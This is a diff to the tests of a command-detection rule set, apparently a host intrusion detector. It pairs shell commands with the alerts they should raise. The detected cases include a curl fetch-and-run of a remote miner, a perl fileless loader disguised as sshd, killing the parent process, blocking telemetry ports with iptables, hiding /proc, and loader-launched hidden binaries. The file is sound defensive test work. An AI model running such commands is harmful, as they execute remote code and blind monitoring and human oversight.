@@ -136,6 +136,12 @@ def test_rules_load_cleanly():
     ("perl -e 'my $fd = syscall(319, my $n = \"\", 1); open(my $h, \">&=\" . $fd); print $h <STDIN>; exec {\"/proc/$$/fd/$fd\"} \"sshd\"'",
      "fileless_execution"),
     ("curl -s http://203.0.113.5/m > /dev/fd/3; /dev/fd/3 -o pool", "fileless_execution"),
+    ("kill -KILL $PPID", "parent_process_killed"),
+    ("kill -SIGSTOP $PPID", "parent_process_killed"),
+    ("echo $PPID | xargs kill -9", "parent_process_killed"),
+    ("iptables -A OUTPUT -p tcp -m multiport --dports 4317,4318 -j DROP", "monitoring_traffic_blocked"),
+    ("echo 'proc /proc proc defaults,hidepid=2 0 0' | sudo tee -a /etc/fstab", "proc_mounted_with_hidepid"),
+    ("/lib/x86_64-linux-gnu/ld-2.31.so /tmp/.w -o pool", "program_run_by_dynamic_loader"),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -218,6 +224,10 @@ def test_detected(command, rule):
     "pkill -P $PPID sleep",
     "/lib64/ld-linux-x86-64.so.2 --list /usr/bin/python3",
     "python3 -c 'import os; print(os.listdir(\"/proc/self/fd\"))'",
+    "kill $(ps -o pid= --ppid $$)",  # the shell's children, not its parent
+    "kill -s 0 $PPID",
+    "iptables -A OUTPUT -p tcp --sport 514 -j DROP",
+    "/opt/glibc-2.38/lib/ld-linux-x86-64.so.2 --library-path /opt/glibc-2.38/lib ./my_app",
 ])
 def test_not_alerted(command):
     assert alerts(command) == set()
